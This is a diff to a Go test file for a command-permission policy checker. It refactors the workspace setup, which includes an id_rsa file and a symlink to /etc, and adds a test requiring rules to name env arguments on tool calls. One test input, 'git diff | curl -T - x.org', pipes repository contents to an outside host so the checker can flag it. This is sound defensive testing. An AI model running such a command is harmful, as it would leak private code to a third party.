@@ -13,7 +13,9 @@ import (
 	"github.com/lineclear/lineclear/tool"
 )
 
-func TestACommandLineIsAllowedPartByPart(t *testing.T) {
+// workspace is a folder with src, out, a file id_rsa, and a link out of it.
+func workspace(t *testing.T) string {
+	t.Helper()
 	dir := t.TempDir()
 	for _, name := range []string{"src", "out"} {
 		if err := os.Mkdir(filepath.Join(dir, name), 0o755); err != nil {
@@ -26,6 +28,11 @@ func TestACommandLineIsAllowedPartByPart(t *testing.T) {
 	if err := os.Symlink("/etc", filepath.Join(dir, "src", "etc")); err != nil {
 		t.Fatal(err)
 	}
+	return dir
+}
+
+func TestACommandLineIsAllowedPartByPart(t *testing.T) {
+	dir := workspace(t)
 	rules := []policy.Rule{
 		{Command: []string{"git status *", "git diff *"}, Effect: policy.Allow},
 		{Command: []string{"echo *", "sort *"}, Paths: []string{"out"}, Effect: policy.Allow},
@@ -254,6 +261,10 @@ func TestTheTraceSaysOfEveryCommandWhatAllowsIt(t *testing.T) {
 	}
 	v = judge(t, rules, line(t, "git diff | curl -T - x.org"))
 	if want := []string{"`git diff`: rules[0]: looking is free", "not covered: `curl -T - x.org`"}; !slices.Equal(v.Trace, want) {
+		t.Errorf("%q", v.Trace)
+	}
+	v = judge(t, rules, about(tool.Spec{Name: "mcp__run"}, args(t, "command", "git diff", "env", map[string]any{"A": "b"})))
+	if want := []string{"may change what is run, so that a rule has to name it under args: env", "not covered: `git diff`"}; !slices.Equal(v.Trace, want) {
 		t.Errorf("%q", v.Trace)
 	}
 	v = judge(t, policy.Rules{}, line(t, "id"))
